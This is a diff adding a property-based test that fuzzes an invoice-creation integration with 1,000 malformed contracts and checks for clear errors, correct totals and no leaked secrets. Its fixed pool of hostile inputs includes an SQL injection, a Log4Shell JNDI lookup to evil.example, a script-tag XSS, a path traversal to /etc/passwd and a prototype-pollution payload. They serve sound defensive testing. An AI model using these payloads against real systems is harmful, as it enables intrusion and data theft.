@@ -1,0 +1,255 @@
+// 1,000 malformed and hostile contracts through "Create Unfinished Invoice": each one must end in a clear error
+// or a correct invoice, never a crash, and never an invoice made for a contract that failed.
+import fc from 'fast-check';
+import { contractTotals } from '../../lib/fields/contract';
+import { Contract } from '../../lib/click2contract/schemas';
+import { randomBusinessId, seededRandom } from '../../demo/data';
+import { sandboxTokens } from '../support/procountorSandbox';
+import { INVOICE_STEP, startWorld, type World } from '../support/world';
+
+const RUNS = Number(process.env.PROPERTY_RUNS ?? 1000);
+const CONCURRENCY = 6;
+
+let w: World;
+beforeAll(async () => {
+  w = await startWorld();
+  await w.reset();
+  // Each run below uses its own connection; Procountor's limit is per API client, so it is lifted here: this test
+  // is about data, and the limit has tests of its own.
+  await w.procountor.control('faults', { rateLimitPerSecond: null });
+});
+afterAll(async () => {
+  const leaks = w.leakedSecrets();
+  await w.stop();
+  expect(leaks).toEqual([]);
+});
+
+const random = seededRandom(7);
+const POOL_CUSTOMERS = Array.from({ length: 4 }, (_, i) => ({ name: `Pool Customer ${i} Oy`, businessId: randomBusinessId(random) }));
+const POOL_PRODUCTS = Array.from({ length: 5 }, (_, i) => ({ name: `Pool product ${i}`, code: `POOL-${i}` }));
+
+const hostile = fc.oneof(
+  fc.string({ maxLength: 30 }),
+  fc.string({ unit: 'binary', maxLength: 30 }),
+  fc.string({ unit: 'grapheme', maxLength: 20 }),
+  fc.constantFrom(
+    '<!channel>',
+    "Robert'); DROP TABLE invoices;--",
+    '${jndi:ldap://evil.example/a}',
+    '<script>alert(1)</script>',
+    '../../etc/passwd',
+    'Ääkkönen & Söner Ab',
+    '*bold* _it_ ~gone~',
+    '   ',
+    '\u202Eevil',
+    '𝕴𝖓𝖛𝖔𝖎𝖈𝖊',
+    // Outside Procountor's Windows-1252: transliterated, dropped, or a halt when nothing would be left.
+    'Łódź Sp. z o.o.',
+    'Hosting 🚀',
+    'Website → renewal',
+    '🚀🚀',
+    'ೠ еߙϲ․',
+    'Κωνσταντίνος Ltd',
+    'a\u0000b',
+    '{"__proto__": {"admin": true}}',
+  ),
+  fc.string({ minLength: 81, maxLength: 2500 }),
+);
+const amount = fc.oneof(
+  { weight: 6, arbitrary: fc.integer({ min: 1, max: 20 }) },
+  { weight: 3, arbitrary: fc.double({ min: -1e6, max: 1e6, noNaN: true, noDefaultInfinity: true }) },
+  { weight: 1, arbitrary: fc.constantFrom(0, 0.0001, 1e12, -1, 99999999.99) },
+  { weight: 1, arbitrary: fc.oneof(fc.string({ maxLength: 6 }), fc.constant(null), fc.boolean()) },
+);
+const pooledProduct = fc.constantFrom(...POOL_PRODUCTS);
+const item = fc.oneof(
+  {
+    weight: 20,
+    arbitrary: fc
+      .record({
+        product: fc.oneof({ weight: 3, arbitrary: pooledProduct }, { weight: 2, arbitrary: fc.record({ name: hostile, code: fc.option(hostile) }) }),
+        description: fc.option(hostile),
+        quantity: amount,
+        unit: fc.option(fc.oneof(fc.constantFrom('kpl', 'h', 'kk', 'päivä', 'week', 'm²'), hostile)),
+        unit_price: amount,
+        discount_percent: fc.option(fc.oneof(fc.constantFrom(0, 10, 50, 100), amount)),
+        vat_percent: fc.option(fc.constantFrom(25.5, 25.5, 13.5, 10, 0, 24, 14, 23, -5, 100)),
+      })
+      .map(({ product, ...rest }) => ({ name: product.name, code: product.code ?? null, ...rest })),
+  },
+  { weight: 1, arbitrary: fc.anything() },
+);
+const customer = fc.record(
+  {
+    company_name: fc.option(fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...POOL_CUSTOMERS.map((c) => c.name)) }, { weight: 2, arbitrary: hostile })),
+    business_id: fc.option(
+      fc.oneof(
+        fc.constantFrom(...POOL_CUSTOMERS.map((c) => c.businessId)),
+        fc.constantFrom('0737546-2', 'FI07375462', ' 0836922 - 4 ', '2077474-1', 'SE556036079301'),
+        hostile,
+      ),
+    ),
+    address: fc.option(fc.oneof(fc.constant('Mannerheimintie 1'), hostile)),
+    postal_code: fc.option(fc.oneof(fc.constant('00100'), hostile)),
+    city: fc.option(fc.oneof(fc.constant('Helsinki'), hostile)),
+    country: fc.option(fc.constantFrom('FI', 'fi', 'SE', 'XX', 'Finland', '', 'Atlantis')),
+    contact_name: fc.option(hostile),
+    email: fc.option(fc.oneof(fc.constant('laskut@example.fi'), hostile)),
+    phone: fc.option(hostile),
+  },
+  { requiredKeys: [] },
+);
+const proposal = fc.record(
+  {
+    title: fc.option(hostile),
+    customer: fc.oneof({ weight: 12, arbitrary: customer }, { weight: 1, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: fc.anything() }),
+    pricing_table: fc.oneof(
+      {
+        weight: 10,
+        arbitrary: fc.record({
+          currency: fc.option(fc.constantFrom('EUR', 'eur', 'SEK')),
+          prices_include_vat: fc.option(fc.boolean()),
+          items: fc.array(item, { maxLength: 4 }),
+        }),
+      },
+      { weight: 1, arbitrary: fc.constant(null) },
+      { weight: 1, arbitrary: fc.anything() },
+    ),
+  },
+  { requiredKeys: ['customer', 'pricing_table'] },
+);
+
+/** Contracts a real template produces, with hostile text only where people type free text. */
+const plausible = fc.record({
+  title: fc.option(hostile),
+  customer: fc.record({
+    company_name: fc.oneof(fc.constantFrom(...POOL_CUSTOMERS.map((c) => c.name)), fc.constantFrom('Uusi Asiakas Oy', 'Ääkkönen & Söner Ab', '<!channel> Oy')),
+    business_id: fc.option(fc.oneof(fc.constantFrom(...POOL_CUSTOMERS.map((c) => c.businessId)), fc.constantFrom('0737546-2', 'FI07375462', ' 0836922 - 4 '))),
+    address: fc.constant('Mannerheimintie 1'),
+    postal_code: fc.constant('00100'),
+    city: fc.constant('Helsinki'),
+    country: fc.constantFrom('FI', 'fi'),
+    contact_name: fc.option(fc.string({ maxLength: 40 })),
+    email: fc.constant('laskut@example.fi'),
+  }),
+  pricing_table: fc.record({
+    currency: fc.constantFrom('EUR', 'eur'),
+    prices_include_vat: fc.boolean(),
+    items: fc.array(
+      fc
+        .record({
+          product: pooledProduct,
+          description: fc.option(hostile),
+          quantity: fc.oneof(fc.integer({ min: 1, max: 50 }), fc.double({ min: -100, max: 1000, noNaN: true, noDefaultInfinity: true })),
+          unit: fc.constantFrom('kpl', 'h', 'kk', 'päivä', 'week'),
+          unit_price: fc.oneof(
+            fc.integer({ min: 0, max: 10000 }),
+            fc.double({ min: -500, max: 50000, noNaN: true, noDefaultInfinity: true }).map((x) => Math.round(x * 100) / 100),
+          ),
+          discount_percent: fc.constantFrom(0, 5, 10, 100),
+          vat_percent: fc.constantFrom(25.5, 13.5, 10, 0),
+        })
+        .map(({ product, ...rest }) => ({ name: product.name, code: product.code, ...rest })),
+      { minLength: 1, maxLength: 4 },
+    ),
+  }),
+});
+
+const contracts = fc.oneof(plausible, proposal);
+
+const CRASH = /TypeError|ReferenceError|RangeError|Cannot read|is not a function|is not iterable|\[object Object\]|undefined|NaN/;
+
+it(`ends ${RUNS} generated contracts in a clear error or a correct invoice`, async () => {
+  await w.procountor.control('seed', {
+    businesspartners: POOL_CUSTOMERS.map((c) => ({ name: c.name, invoicingInfo: { identifier: c.businessId } })),
+    products: POOL_PRODUCTS.map((p) => ({ name: p.name, code: p.code, unit: 'PIECE', price: 10, vat: 25.5 })),
+  });
+  const samples = fc.sample(contracts, { numRuns: RUNS, seed: 20261124 });
+  const outcomes: Array<{ contractId: string; ok: boolean; result?: any; error?: { name: string; message: string } }> = [];
+  const problems: string[] = [];
+
+  const runOne = async (sample: unknown) => {
+    const created = await w.c2c.control('proposals', sample);
+    await w.c2c.control(`contracts/${created.id}/accept`, {});
+    const tokens = await sandboxTokens(w.procountor.base);
+    // A connection of its own per run: its own claim and rate window, as separate Zapier users would have.
+    const authData = { access_token: tokens.access_token, refresh_token: tokens.refresh_token, click2contract_api_key: 'c2c_sandbox_key' };
+    const run = w.remember(await w.runtime.run<any>(INVOICE_STEP, { authData, inputData: { contract_id: created.id } }));
+    outcomes.push({ contractId: created.id, ok: run.ok, result: run.result, error: run.error });
+    if (!run.ok) {
+      const { name, message } = run.error!;
+      if (!['HaltedError', 'AppError'].includes(name)) problems.push(`${created.id}: unexpected ${name}: ${message}`);
+      if (message.length < 20 || CRASH.test(message)) problems.push(`${created.id}: unclear error: ${message.slice(0, 300)}`);
+    } else if (run.result.status !== 'UNFINISHED') {
+      problems.push(`${created.id}: invoice status ${run.result.status}`);
+    }
+  };
+  const queue = [...samples];
+  let done = 0;
+  await Promise.all(
+    Array.from({ length: CONCURRENCY }, async () => {
+      for (let next = queue.shift(); next !== undefined; next = queue.shift()) {
+        await runOne(next);
+        if (++done % 25 === 0) {
+          w.checkpointSecrets();
+          // Zapier's core exits a process that has served 250 invocations while over 450 MB RSS (its Lambda guard).
+          // A thousand steps in one Jest worker leave that much garbage uncollected; `npm test` exposes gc for this.
+          (globalThis as { gc?: () => void }).gc?.();
+        }
+      }
+    }),
+  );
+
+  const state = await w.state();
+  const invoicesFor = (id: string) => state.invoices.filter((inv) => String(inv.additionalInformation ?? '').includes(`[C2C:${id}]`));
+  for (const outcome of outcomes) {
+    const made = invoicesFor(outcome.contractId);
+    if (!outcome.ok) {
+      if (made.length) problems.push(`${outcome.contractId}: failed (${outcome.error?.message.slice(0, 80)}) but left an invoice`);
+      continue;
+    }
+    if (made.length !== 1) {
+      problems.push(`${outcome.contractId}: ${made.length} invoices`);
+      continue;
+    }
+    const contract = Contract.parse(
+      await (
+        await fetch(`${process.env.CLICK2CONTRACT_API_URL}/contracts/${outcome.contractId}`, { headers: { Authorization: 'Bearer c2c_sandbox_key' } })
+      ).json(),
+    );
+    const invoice = made[0];
+    const expected = contractTotals(contract);
+    const sums = invoice.invoiceSumInfo[0];
+    const tolerance = 0.011 * invoice.invoiceRows.length;
+    if (invoice.invoiceRows.length !== contract.pricing_table!.items.length) problems.push(`${outcome.contractId}: row count differs`);
+    if (Math.abs(sums.excludingVatTotal - expected.net) > tolerance || Math.abs(sums.invoiceSumTotal - expected.gross) > tolerance) {
+      problems.push(`${outcome.contractId}: totals ${sums.excludingVatTotal}/${sums.invoiceSumTotal}, expected ${expected.net}/${expected.gross}`);
+    }
+    if (outcome.result.total !== sums.invoiceSumTotal)
+      problems.push(`${outcome.contractId}: output total ${outcome.result.total} is not Procountor's ${sums.invoiceSumTotal}`);
+  }
+
+  const succeeded = outcomes.filter((o) => o.ok).length;
+  const byError = outcomes.filter((o) => !o.ok).reduce<Record<string, number>>((acc, o) => ((acc[o.error!.name] = (acc[o.error!.name] ?? 0) + 1), acc), {});
+  const messages = outcomes
+    .filter((o) => !o.ok)
+    .reduce<Record<string, number>>((acc, o) => {
+      const gist = o
+        .error!.message.replace(/"[^"]*"/g, '"…"')
+        .replace(/\d+(\.\d+)?/g, 'N')
+        .slice(0, 90);
+      acc[gist] = (acc[gist] ?? 0) + 1;
+      return acc;
+    }, {});
+  const common = Object.entries(messages)
+    .sort((a, b) => b[1] - a[1])
+    .slice(0, 12)
+    .map(([m, n]) => `  ${n} × ${m}`)
+    .join('\n');
+  console.log(
+    `RSS ${Math.round(process.memoryUsage().rss / 1e6)} MB; ${outcomes.length} generated contracts: ${succeeded} invoices, errors ${JSON.stringify(byError)}\nMost common errors:\n${common}`,
+  );
+  expect(outcomes).toHaveLength(RUNS);
+  expect(succeeded).toBeGreaterThan(50);
+  expect(problems.slice(0, 20)).toEqual([]);
+}, 300_000);
